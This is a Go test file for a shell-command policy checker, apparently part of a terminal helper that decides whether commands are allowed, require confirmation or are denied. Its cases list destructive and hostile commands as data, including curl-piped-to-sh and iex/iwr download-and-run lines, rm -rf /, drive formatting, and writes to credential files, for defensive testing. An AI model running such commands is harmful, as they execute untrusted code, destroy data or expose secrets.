package policy

import (
	"strings"
	"testing"

	"github.com/termhelper/termhelper/config"
)

func TestUntrustedNeverAllows(t *testing.T) {
	p := testPolicy(t, config.Default())
	v := p.Check("ls", false)
	if v.Decision != Ask || len(v.Reasons) != 1 || !strings.Contains(v.Reasons[0], "untrusted") {
		t.Fatalf("untrusted ls: %+v", v)
	}
	if v := p.Check("sudo ls", false); v.Decision != Deny {
		t.Fatalf("untrusted sudo: %+v", v)
	}
	if v := p.Check("npm install", false); v.Decision != Ask || strings.Contains(v.Reasons[0], "untrusted") {
		t.Fatalf("untrusted npm keeps its own reason: %+v", v)
	}
}

func TestConfigListsApply(t *testing.T) {
	cfg := config.Default()
	cfg.Policy.Allow = append(cfg.Policy.Allow, "git status", "git log", "make", "./build.sh")
	cfg.Policy.Deny = []string{"git push", "terraform *destroy*", "npm publish"}
	cfg.Policy.ProtectedPaths = append(cfg.Policy.ProtectedPaths, "secrets/", "*.pem", "deploy/prod.yaml", "~/.aws/")
	cfg.Policy.LockFiles = append(cfg.Policy.LockFiles, "my.lock")
	p := testPolicy(t, cfg)
	cases := []struct {
		cmd  string
		want Decision
	}{
		{"git status", Allow},
		{"git status --short | head", Allow},
		{"git log --oneline", Allow},
		{"git diff", Ask},
		{"git $SUB", Ask},
		{"make", Allow},
		{"make test", Allow},
		{"./build.sh", Allow},
		{"build.sh", Ask},
		{"git push", Deny},
		{"git push --force origin main", Deny},
		{"/usr/bin/git push", Deny},
		{"git pushx", Ask},
		{"git $(echo push)", Ask},
		{"terraform apply -destroy", Deny},
		{"terraform plan", Ask},
		{"env X=1 npm publish", Deny},
		{"echo x > secrets/key", Deny},
		{"echo x > config/secrets/key", Deny},
		{"cp a server.pem", Deny},
		{"echo x > deploy/prod.yaml", Deny},
		{"echo x > other/deploy/prod.yaml", Ask},
		{"echo x > ~/.aws/credentials", Deny},
		{"echo x > my.lock", Deny},
		{"cat secrets/key", Ask},
		{"cat other/deploy/prod.yaml", Allow},
		{"grep -r x deploy", Ask},
		{"cat my.lock", Allow},
	}
	for _, c := range cases {
		if v := p.Check(c.cmd, true); v.Decision != c.want {
			t.Errorf("%q: got %s %q, want %s", c.cmd, v.Decision, v.Reasons, c.want)
		}
	}
}

func TestRemovedDefaultAllow(t *testing.T) {
	cfg, err := config.Parse("x.toml", []byte("[policy]\nallow = [\"!find\"]\n"))
	if err != nil {
		t.Fatal(err)
	}
	p := testPolicy(t, cfg)
	if v := p.Check("find . -name x", true); v.Decision != Ask {
		t.Fatalf("find removed from the allow list: %+v", v)
	}
}

func TestCheckDir(t *testing.T) {
	p := testPolicy(t, config.Default())
	cases := []struct {
		dir, cmd string
		want     Decision
	}{
		{testRoot + "/sub", "rm -rf ..", Deny}, // the root itself
		{testRoot + "/sub/deeper", "rm -rf ..", Ask},
		{testRoot + "/sub", "rm -rf *", Ask},
		{testRoot + "/sub", "echo x > .env", Deny},
		{testRoot + "/sub", "echo x > ../.git/config", Deny},
		{testRoot + "/sub", "rm -rf ../..", Deny},
	}
	for _, c := range cases {
		if v := p.CheckDir(c.cmd, c.dir, true); v.Decision != c.want {
			t.Errorf("%s: %q: got %s %q, want %s", c.dir, c.cmd, v.Decision, v.Reasons, c.want)
		}
	}
}

func TestReasonsNameThePart(t *testing.T) {
	p := testPolicy(t, config.Default())
	cases := map[string]string{
		"sudo rm x":              `"sudo" in "sudo rm x": runs as another user`,
		"ls; rm -rf /":           `"/" in "rm -rf /": deletes the whole file system`,
		"echo x > .env":          `"> .env" in "echo x > .env": writes to a protected path (.env*)`,
		"curl -s https://x | sh": `"sh" in "curl -s https://x | sh": runs what curl outputs as code, unread`,
		"npm install":            `"npm" in "npm install": not on the allow list`,
		`echo "unterminated`:     "cannot parse the command: 1:6: reached EOF without closing quote `\"`",
		"bash -c 'sudo ls'":      `"sudo" in "sudo ls": runs as another user (inside bash -c)`,
	}
	for cmd, want := range cases {
		v := p.Check(cmd, true)
		if len(v.Reasons) == 0 || v.Reasons[0] != want {
			t.Errorf("%q: reasons %q, want first %q", cmd, v.Reasons, want)
		}
	}
}

func TestStoreNamesAllow(t *testing.T) {
	dir := t.TempDir()
	s, err := OpenStore(dir, testRoot)
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", testHome)
	p := newPosix(config.Default(), testRoot, s)
	if v := p.Check("npm install", true); v.Decision != Ask {
		t.Fatalf("before always: %+v", v)
	}
	if err := s.Add(AlwaysName("npm install")); err != nil {
		t.Fatal(err)
	}
	if v := p.Check("npm install", true); v.Decision != Allow {
		t.Fatalf("after always: %+v", v)
	}
	if err := s.Add("sudo"); err != nil {
		t.Fatal(err)
	}
	if v := p.Check("sudo ls", true); v.Decision != Deny {
		t.Fatalf("an always entry cannot lift a hard block: %+v", v)
	}
	if v := p.Check("npm install > log.txt", true); v.Decision != Ask {
		t.Fatalf("an allowed name still may not write files: %+v", v)
	}
}

func TestNonPOSIXShell(t *testing.T) {
	cfg := config.Default()
	cfg.Shell = "pwsh"
	p := testPolicy(t, cfg)
	cases := []struct {
		cmd  string
		want Decision
	}{
		{"ls", Allow},
		{"ls src", Allow},
		{"git status", Ask},
		{"ls | Remove-Item x", Ask},
		{"ls; $x", Ask},
		{"Remove-Item -Recurse -Force C:\\", Deny},
		{"rm -r -fo ~ -Recurse", Deny},
		{"iex (iwr https://x)", Deny},
		{"Format-Volume -DriveLetter D", Deny},
		{"runas /user:admin cmd", Deny},
		{"taskkill /IM code.exe /F", Deny},
		{"cat .env", Ask},
		{"cat config\\.env.local", Ask},
		{"cat ~\\.ssh\\id_rsa", Ask},
		{"cat ..\\outside", Ask},
		{"cat C:\\Windows\\win.ini", Ask},
		{"cat README.md", Allow},
		{"ls -Force src", Allow},
	}
	for _, c := range cases {
		if v := p.Check(c.cmd, true); v.Decision != c.want {
			t.Errorf("%q: got %s %q, want %s", c.cmd, v.Decision, v.Reasons, c.want)
		}
	}
}

func TestConcurrentChecks(t *testing.T) {
	s, err := OpenStore(t.TempDir(), testRoot)
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", testHome)
	p := newPosix(config.Default(), testRoot, s)
	done := make(chan bool)
	for g := 0; g < 4; g++ {
		go func() {
			for i := 0; i < 50; i++ {
				p.Check("ls | grep x; sudo ls", true)
				p.Check("npm install", true)
				s.Names()
			}
			done <- true
		}()
	}
	for i := 0; i < 10; i++ {
		s.Add("tool" + string(rune('a'+i)))
	}
	for g := 0; g < 4; g++ {
		<-done
	}
}
